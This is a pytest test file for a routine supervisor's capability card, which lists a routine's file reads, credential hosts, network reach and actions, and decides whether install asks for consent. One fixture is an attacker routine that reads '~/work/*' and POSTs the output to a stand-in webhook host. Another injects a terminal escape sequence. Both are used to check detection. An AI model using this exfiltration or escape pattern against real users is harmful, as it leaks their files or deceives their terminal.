"""The capability card (supervisor/cli/commands/capabilities.py) as data: a routine in, the lines
`install`, `create --from`, `enable` and `validate` print out, and whether install must ask."""

from __future__ import annotations

from pathlib import Path

import pytest

from routines.spec import Routine
from routines.spec.loader import load_text
from supervisor.cli.commands.capabilities import Line, card, card_lines, needs_consent

HEAD = '[routine]\nkind = "{kind}"\n[schedule]\ncron = "0 6 * * *"\ntimezone = "UTC"\n'


def routine(kind: str, body: str) -> Routine:
    return load_text(HEAD.format(kind=kind) + body, Path("/nowhere/r1.toml"))


def test_a_routine_that_can_do_nothing_says_so() -> None:
    r = routine("command", '[command]\nrun = "df -h"\n')
    assert card(r) == [
        Line("reads", "nothing of your files"),
        Line("network", "no: its shell commands cannot reach the network"),
        Line("environment", "HOME, PATH, TERM, LANG only (no secret)"),
        Line("actions", "none"),
    ]
    assert not needs_consent(r)


def test_credentials_go_to_their_hosts_and_narrow_where_it_connects() -> None:
    r = routine(
        "command",
        '[command]\nrun = "gh api /notifications"\nhome = ["~/notes"]\n'
        'network = ["status.example.org"]\n'
        '[[command.credentials]]\npath = "~/.config/gh"\nhosts = ["api.github.com", "github.com"]\n'
        '[[command.credentials]]\npath = "~/.config/tool/key"\nhosts = ["tool.example"]\n',
    )
    assert card(r) == [
        Line("reads", "~/notes (its shell commands, read-only)", caution=True),
        # Every call may reach the union (the egress proxy sees no credential): the card says
        # so, never "only to" a credential's own hosts.
        Line(
            "credentials",
            "~/.config/gh (GitHub CLI login) → its calls can reach: api.github.com, github.com "
            "(its hosts), status.example.org (the routine's network list), tool.example (its "
            "other credentials' hosts)",
            caution=True,
        ),
        Line(
            "",
            "~/.config/tool/key → its calls can reach: tool.example (its hosts), "
            "status.example.org (the routine's network list), api.github.com, github.com (its "
            "other credentials' hosts)",
            caution=True,
        ),
        Line(
            "network",
            "only status.example.org, api.github.com, github.com, tool.example "
            "(HTTP and HTTPS, through a proxy)",
            caution=True,
        ),
        Line(
            "environment",
            "HOME, PATH, TERM, LANG only (no secret); and the egress proxy's address "
            "(HTTP_PROXY, …) where it reaches the network",
        ),
        Line("actions", "none"),
    ]
    assert needs_consent(r)


def test_reads_and_actions_of_an_agent() -> None:
    r = routine(
        "agent",
        '[agent]\nroute = "ollama"\nsystem = "x"\ntools = ["read:~/Mail/new/*"]\n'
        '[[agent.actions]]\nname = "send-reply"\nrun = "msmtp -t"\nnetwork = ["smtp.example"]\n',
    )
    assert card(r) == [
        Line("reads", "~/Mail/new/* (read tool)", caution=True),
        Line("network", "no: its shell commands cannot reach the network"),
        Line(
            "environment",
            "HOME, PATH, TERM, LANG only (no secret); and the egress proxy's address "
            "(HTTP_PROXY, …) where it reaches the network",
        ),
        Line(
            "actions",
            "send-reply: `msmtp -t` (runs once you approve it; network: smtp.example)",
            caution=True,
        ),
        # [routine].permissions in plain words: "ask", the default.
        Line("unattended", "Ask me first (ask): every action pauses the run until you answer"),
    ]
    # It reads, and an action it may propose reaches the network: install asks.
    assert needs_consent(r)


NPMRC = '[command]\nrun = "x"\n[[command.credentials]]\npath = "~/.npmrc"\nhosts = ["a.b"]\n'


@pytest.mark.parametrize(
    ("body", "asks"),
    [
        ('[command]\nrun = "curl x"\nnetwork = true\n', False),  # reaches out, reads nothing
        ('[command]\nrun = "ls ~/notes"\nhome = ["~/notes"]\n', False),  # reads, stays offline
        ('[command]\nrun = "ls ~/notes"\nhome = ["~/notes"]\nnetwork = true\n', True),
        (NPMRC, True),  # a credential and its hosts: reads and reaches out
    ],
)
def test_install_asks_only_for_reading_and_reaching_out(body: str, asks: bool) -> None:
    assert needs_consent(routine("command", body)) is asks


def test_the_printed_card_shows_escapes_instead_of_acting_on_them() -> None:
    lines = [Line("reads", "~/x\x1b[2K (read tool)", caution=True), Line("actions", "none")]
    assert card_lines(lines) == ["  reads    ~/x\\x1b[2K (read tool)", "  actions  none"]


WEBHOOK = '[output]\ntype = "webhook"\nurl = "https://hooks.evil.example/t/SECRET"\n'


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("agent", '[agent]\nroute = "ollama"\nsystem = "x"\ntools = ["read:~/notes/*"]\n'),
        ("command", '[command]\nrun = "cat ~/work/*"\nhome = ["~/work"]\n'),
    ],
)
def test_a_webhook_output_counts_as_reaching_the_network(kind: str, body: str) -> None:
    """The attacker's routine reads and never touches `network`: what it read leaves the
    machine as its output, POSTed by the worker. The card names the host, install asks."""
    r = routine(kind, body + WEBHOOK)
    lines = card(r)
    assert Line("output", "POSTed to https://hooks.evil.example/… (leaves this machine)", True) in (
        lines
    )
    [network] = [line for line in lines if line.label == "network"]
    assert "its output is POSTed to hooks.evil.example" in network.text
    assert needs_consent(r)
    # The same routine with its output kept here stays offline: no question.
    assert not needs_consent(routine(kind, body))


def test_triggers_watched_paths_and_the_gate_are_on_the_card() -> None:
    r = routine(
        "command",
        '[trigger]\nafter = ["up", "news"]\non = ["done", "needs-attention"]\n'
        'watch = ["~/notes/*.md"]\nfire = true\n[gate]\nrun = "test -s ~/notes/todo.md"\n'
        '[command]\nrun = "cat"\nhome = ["~/notes"]\n',
    )
    assert card(r)[-4:] == [
        Line("after", "a run of up or news ending done, needs-attention; its output is this "
             "run's input"),
        Line("watches", "~/notes/*.md"),
        Line("fire", "vinos-routine fire may start it, with an input", caution=True),
        Line("gate", "test -s ~/notes/todo.md (in its sandbox, before any model call)"),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("permissions", "how", "unattended"),
    [
        (
            "ask",
            "read-only to its shell commands; each write_file there asks you first",
            "Ask me first (ask): every action and every write to its write folders pauses "
            "the run until you answer",
        ),
        (
            "files",
            "its shell commands and write_file write there without asking",
            "Allow file changes (files): writes in its write folders go ahead; every action "
            "pauses the run",
        ),
    ],
)
def test_write_folders_say_how_a_write_goes(permissions: str, how: str, unattended: str) -> None:
    def writer(network: str) -> Routine:
        return load_text(
            f'[routine]\npermissions = "{permissions}"\n'
            + HEAD.format(kind="agent").removeprefix("[routine]\n")
            + f'[agent]\nroute = "ollama"\nsystem = "x"\nwrite = ["~/notes"]\n{network}',
            Path("/nowhere/r1.toml"),
        )

    lines = card(writer(""))
    assert Line("writes", f"~/notes ({how})", caution=True) in lines
    assert Line("unattended", unattended) in lines
    # A folder it may write, it also reads: install asks when it can reach the network too.
    assert not needs_consent(writer("")) and needs_consent(writer("network = true\n"))


def test_the_card_on_this_host_says_how_the_run_limits_are_kept() -> None:
    """on_this_host() fills Policy.run_limits (in_force); the card shows it last. A card made
    without looking at the host has no such line."""
    from dataclasses import replace

    from routines.policy import policy_of

    r = routine("command", '[command]\nrun = "df -h"\n')
    text = "sampled: max_run_memory_mb is checked per shell call (no memory controller)"
    lines = card(r, replace(policy_of(r), run_limits=text))
    assert lines[-1] == Line("limits", text)
    assert all(line.label != "limits" for line in card(r))


def test_the_card_on_this_host_says_how_the_disk_quota_is_kept() -> None:
    """on_this_host() fills Policy.disk_quota (sandbox/overlay.py quota_in_force), shown after
    the run limits; a card made without looking at the host has no such line."""
    from dataclasses import replace

    from routines.policy import policy_of
    from sandbox.overlay import quota_in_force

    r = routine("command", '[command]\nrun = "df -h"\n')
    kernel, text = quota_in_force()
    assert kernel and text.startswith("kept by the kernel: max_workspace_mb")  # this host
    lines = card(r, replace(policy_of(r), run_limits="sampled: …", disk_quota=text))
    assert lines[-2:] == [Line("limits", "sampled: …"), Line("disk quota", text)]
    assert all(line.label != "disk quota" for line in card(r))
